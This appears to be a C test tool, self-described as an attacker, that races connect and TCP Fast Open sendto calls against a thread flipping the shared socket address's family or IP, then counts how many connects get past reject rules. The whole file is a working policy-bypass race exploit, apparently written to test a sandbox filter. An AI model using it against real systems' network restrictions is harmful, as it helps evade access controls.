// An attacker against reject rules: one thread connects (or sends with MSG_FASTOPEN) over and over
// while another flips the shared sockaddr between what a rule rejects and what it might let through.
// A connect that succeeds got past the policy. Usage: addrflip PORT TRIES family|address|fastopen
// Prints "bypasses N tries N refused E:N E:N..." (each errno the refused calls saw, and how often, by errno):
// which errno one try sees depends on when the flips fall, so every refusal is counted, not only the last.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in shared;
static atomic_int stop;
static int mode; // 0 family, 1 address

static void *flip(void *arg)
{
    (void)arg;
    volatile unsigned short *family = (volatile unsigned short *)&shared.sin_family;
    volatile unsigned int *address = (volatile unsigned int *)&shared.sin_addr.s_addr;
    unsigned int target = htonl(INADDR_LOOPBACK), other = inet_addr("10.255.255.1");
    while (!atomic_load(&stop)) {
        if (mode == 0) { *family = AF_UNIX; *family = AF_INET; }
        else { *address = other; *address = target; }
    }
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc < 4) { fprintf(stderr, "usage: addrflip PORT TRIES family|address|fastopen\n"); return 2; }
    int port = atoi(argv[1]), tries = atoi(argv[2]);
    int fastopen = strcmp(argv[3], "fastopen") == 0;
    mode = strcmp(argv[3], "address") == 0 ? 1 : 0;
    shared.sin_family = AF_INET;
    shared.sin_port = htons(port);
    shared.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    static int refused[4096];
    int bypasses = 0;
    for (int i = 0; i < tries; i++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0) { perror("socket"); return 1; }
        int r = fastopen ? (int)sendto(s, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&shared, sizeof shared)
                         : connect(s, (struct sockaddr *)&shared, sizeof shared);
        if (r >= 0) bypasses++;
        else refused[errno > 0 && errno < 4096 ? errno : 0]++;
        close(s);
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("bypasses %d tries %d refused", bypasses, tries);
    for (int e = 0; e < 4096; e++)
        if (refused[e] > 0) printf(" %d:%d", e, refused[e]);
    printf("\n");
    return 0;
}
